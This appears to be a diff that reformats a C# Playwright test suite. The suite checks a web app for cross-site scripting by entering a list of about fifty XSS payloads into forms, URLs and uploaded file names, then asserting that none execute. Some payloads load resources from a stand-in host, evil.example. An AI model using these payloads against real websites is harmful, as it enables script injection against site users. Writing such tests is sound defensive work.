@@ -17,23 +17,35 @@ public sealed class InjectionTests(TaintedApp app, ITestOutputHelper output) : I
     private static readonly string[] Scripts =
     [
         // tags, at once or after leaving where the text stands
-        "<script>alert(1)</script>", "\"><script>alert(1)</script>", "'><script>alert(1)</script>", "</script><script>alert(1)</script>", "</title><script>alert(1)</script>",
-        "</textarea><script>alert(1)</script>", "--><script>alert(1)</script><!--", "]]><script>alert(1)</script>", "<ScRiPt/x>alert(1)</sCrIpT >", "<script src=//evil.example/x.js></script>",
-        "<noscript><i title=\"</noscript><img src=x onerror=alert(1)>", "<template><script>alert(1)</script></template>", "<xmp><img src=x onerror=alert(1)></xmp>",
+        "<script>alert(1)</script>", "\"><script>alert(1)</script>", "'><script>alert(1)</script>", "</script><script>alert(1)</script>",
+            "</title><script>alert(1)</script>",
+        "</textarea><script>alert(1)</script>", "--><script>alert(1)</script><!--", "]]><script>alert(1)</script>", "<ScRiPt/x>alert(1)</sCrIpT >",
+            "<script src=//evil.example/x.js></script>",
+        "<noscript><i title=\"</noscript><img src=x onerror=alert(1)>", "<template><script>alert(1)</script></template>",
+            "<xmp><img src=x onerror=alert(1)></xmp>",
         // events
-        "<img src=x onerror=alert(1)>", "</select><img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg><animate onbegin=alert(1) attributeName=x>",
-        "<body onload=alert(1)>", "<details open ontoggle=alert(1)>", "<input autofocus onfocus=alert(1)>", "<video><source onerror=alert(1)></video>", "<marquee onstart=alert(1)>",
+        "<img src=x onerror=alert(1)>", "</select><img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
+            "<svg><animate onbegin=alert(1) attributeName=x>",
+        "<body onload=alert(1)>", "<details open ontoggle=alert(1)>", "<input autofocus onfocus=alert(1)>", "<video><source onerror=alert(1)></video>",
+            "<marquee onstart=alert(1)>",
         // attributes
-        "\" autofocus onfocus=\"alert(1)", "' onmouseover='alert(1)' x='", "` onclick=alert(1) `", "\" style=\"background:url(//evil.example)", "x onfocus=alert(1) tabindex=1",
+        "\" autofocus onfocus=\"alert(1)", "' onmouseover='alert(1)' x='", "` onclick=alert(1) `", "\" style=\"background:url(//evil.example)",
+            "x onfocus=alert(1) tabindex=1",
         // addresses and frames
-        "javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "<a href=javascript:alert(1)>x</a>", "<iframe src=javascript:alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'>",
-        "<object data='data:text/html,<script>alert(1)</script>'>", "<embed src=//evil.example/x.swf>", "<base href=//evil.example/>", "<form action=//evil.example><button>x</button>",
-        "<meta http-equiv=refresh content='0;url=//evil.example'>", "<link rel=stylesheet href=//evil.example/x.css>", "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
+        "javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "<a href=javascript:alert(1)>x</a>", "<iframe src=javascript:alert(1)>",
+            "<iframe srcdoc='<script>alert(1)</script>'>",
+        "<object data='data:text/html,<script>alert(1)</script>'>", "<embed src=//evil.example/x.swf>", "<base href=//evil.example/>",
+            "<form action=//evil.example><button>x</button>",
+        "<meta http-equiv=refresh content='0;url=//evil.example'>", "<link rel=stylesheet href=//evil.example/x.css>",
+            "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
         // style and templates
-        "<style>*{display:none}</style>", "<style>@import'//evil.example/x.css';</style>", "{{constructor.constructor('alert(1)')()}}", "${alert(1)}<%=alert(1)%>#{alert(1)}@(alert(1))",
+        "<style>*{display:none}</style>", "<style>@import'//evil.example/x.css';</style>", "{{constructor.constructor('alert(1)')()}}",
+            "${alert(1)}<%=alert(1)%>#{alert(1)}@(alert(1))",
         // written otherwise
-        "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", "%3Cscript%3Ealert(1)%3C/script%3E",
-        "＜script＞alert(1)＜/script＞", "\u202E<script>alert(1)</script>", "<scr\u200Bipt>alert(1)</scr\u200Bipt>", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "<ſcript>alert(1)</ſcript>",
+        "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
+            "%3Cscript%3Ealert(1)%3C/script%3E",
+        "＜script＞alert(1)＜/script＞", "\u202E<script>alert(1)</script>", "<scr\u200Bipt>alert(1)</scr\u200Bipt>", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
+            "<ſcript>alert(1)</ſcript>",
     ];
 
     /// <summary>Elements and attributes that no page of the product has; of the page that is open, or of this markup.</summary>
@@ -46,7 +58,8 @@ public sealed class InjectionTests(TaintedApp app, ITestOutputHelper output) : I
             .map(e => e.outerHTML.slice(0, 200))
         """;
 
-    private const string Everything = "() => document.documentElement.textContent + [...document.querySelectorAll('input, textarea')].map(e => e.value).join('\\n')";
+    private const string Everything =
+        "() => document.documentElement.textContent + [...document.querySelectorAll('input, textarea')].map(e => e.value).join('\\n')";
 
     private readonly Dictionary<string, int> sightings = Scripts.ToDictionary(script => script, _ => 0);
     private readonly List<string> faults = [];
@@ -58,7 +71,8 @@ public sealed class InjectionTests(TaintedApp app, ITestOutputHelper output) : I
         Assert.All(Scripts, script => Assert.True(script.Length <= 60, script));
         await using var office = await WatchedAsync("office");
         var staff = await ImportAsync(office);
-        await LookAsync(office, "/roster/people?search=XSS", $"/campaigns/{App.Campaign}/people", "/slips", "/slips/xss-00", $"/roster/people/{staff}", $"/slips/person/{staff}", "/my-work");
+        await LookAsync(office, "/roster/people?search=XSS", $"/campaigns/{App.Campaign}/people", "/slips", "/slips/xss-00", $"/roster/people/{staff}",
+            $"/slips/person/{staff}", "/my-work");
         await office.Page.GotoAsync($"/slips/person/{staff}");
         await office.PressAsync("打印启用单");
         await LookAsync(office);
@@ -101,9 +115,11 @@ public sealed class InjectionTests(TaintedApp app, ITestOutputHelper output) : I
             foreach (var script in Scripts)
                 await LookAsync(system, "/admin/accounts?name=" + Uri.EscapeDataString(script));
         foreach (var script in Scripts)
-            await LookAsync(office, "/roster/people?search=" + Uri.EscapeDataString(script), "/verify?number=" + Uri.EscapeDataString(script) + "&digest=" + Uri.EscapeDataString(script));
+            await LookAsync(office, "/roster/people?search=" + Uri.EscapeDataString(script), "/verify?number=" + Uri.EscapeDataString(script) + "&digest="
+                + Uri.EscapeDataString(script));
 
-        output.WriteLine($"{Scripts.Length} kinds of script, typed {stored} times, read {sightings.Values.Sum()} times (each at least {sightings.Values.Min()}) on {pages} pages by 6 readers: {faults.Count} dialogs, complaints, elements or requests");
+        output.WriteLine($"{Scripts.Length} kinds of script, typed {stored} times, read {sightings.Values.Sum()} times (each at least "
+            + $"{sightings.Values.Min()}) on {pages} pages by 6 readers: {faults.Count} dialogs, complaints, elements or requests");
         Assert.True(faults.Count == 0, string.Join('\n', faults.Distinct()));
         Assert.All(sightings, sighting => Assert.True(sighting.Value >= 3, $"{sighting.Key} was read {sighting.Value} times"));
     }
@@ -114,7 +130,8 @@ public sealed class InjectionTests(TaintedApp app, ITestOutputHelper output) : I
         await using var nobody = await app.VisitAsync(null);
         var found = 0;
         foreach (var script in Scripts)
-            found += (await nobody.Page.EvaluateAsync<string[]>(Alien, $"<p>{script}</p><p title=\"{script}\"></p><p title='{script}'></p><a href=\"{script}\"></a>")).Length > 0 ? 1 : 0;
+            found += (await nobody.Page.EvaluateAsync<string[]>(
+                Alien, $"<p>{script}</p><p title=\"{script}\"></p><p title='{script}'></p><a href=\"{script}\"></a>")).Length > 0 ? 1 : 0;
         output.WriteLine($"{found} of {Scripts.Length} would have come alive");
         Assert.True(found >= 40, $"Only {found} would have been found.");
     }
@@ -144,7 +161,8 @@ public sealed class InjectionTests(TaintedApp app, ITestOutputHelper output) : I
                 await visit.Page.GotoAsync(address);
             pages++;
             faults.AddRange((await visit.Page.EvaluateAsync<string[]>(Alien, "")).Select(element => $"{visit.Page.Url}: {element}"));
-            faults.AddRange(visit.Complaints.Where(complaint => !complaint.Contains("status of 400", StringComparison.Ordinal)).Select(complaint => $"{visit.Page.Url}: {complaint}"));
+            faults.AddRange(visit.Complaints.Where(complaint => !complaint.Contains("status of 400", StringComparison.Ordinal))
+                .Select(complaint => $"{visit.Page.Url}: {complaint}"));
             var text = await visit.Page.EvaluateAsync<string>(Everything);
             foreach (var script in Scripts.Where(script => text.Contains(script, StringComparison.Ordinal)))
                 sightings[script]++;
@@ -183,7 +201,8 @@ public sealed class InjectionTests(TaintedApp app, ITestOutputHelper output) : I
         }
         using var file = new MemoryStream();
         workbook.SaveAs(file);
-        await office.Page.SetInputFilesAsync("input[type=file]", new FilePayload { Name = "\"><img src=x onerror=alert(1)>.xlsx", MimeType = "application/octet-stream", Buffer = file.ToArray() });
+        await office.Page.SetInputFilesAsync("input[type=file]", new FilePayload
+            { Name = "\"><img src=x onerror=alert(1)>.xlsx", MimeType = "application/octet-stream", Buffer = file.ToArray() });
         await office.Page.SelectOptionAsync("[name='Form.Campaign']", App.Campaign);
         await office.TickAsync("只有部分人员");
         await office.PressAsync("上传并预览");
@@ -214,7 +233,8 @@ public sealed class InjectionTests(TaintedApp app, ITestOutputHelper output) : I
         foreach (var (field, longest) in new[] { ("TransfereeName", 120), ("Evidence", 500), ("Reason", 500) })
             await FillAsync(filer, $"[name='Form.{field}']", longest);
         if (await filer.Page.Locator("input[type=file]").First.IsVisibleAsync())
-            await filer.Page.SetInputFilesAsync("input[type=file]", new FilePayload { Name = "\"><svg onload=alert(1)>'.pdf", MimeType = "application/pdf", Buffer = "%PDF-1.4 %%EOF"u8.ToArray() });
+            await filer.Page.SetInputFilesAsync("input[type=file]", new FilePayload
+                { Name = "\"><svg onload=alert(1)>'.pdf", MimeType = "application/pdf", Buffer = "%PDF-1.4 %%EOF"u8.ToArray() });
         await filer.PressAsync("保存并继续");
         await LookAsync(filer, $"/report/{App.Campaign}/check");
         await filer.TickAsync("我已逐项核对，作出上述承诺");
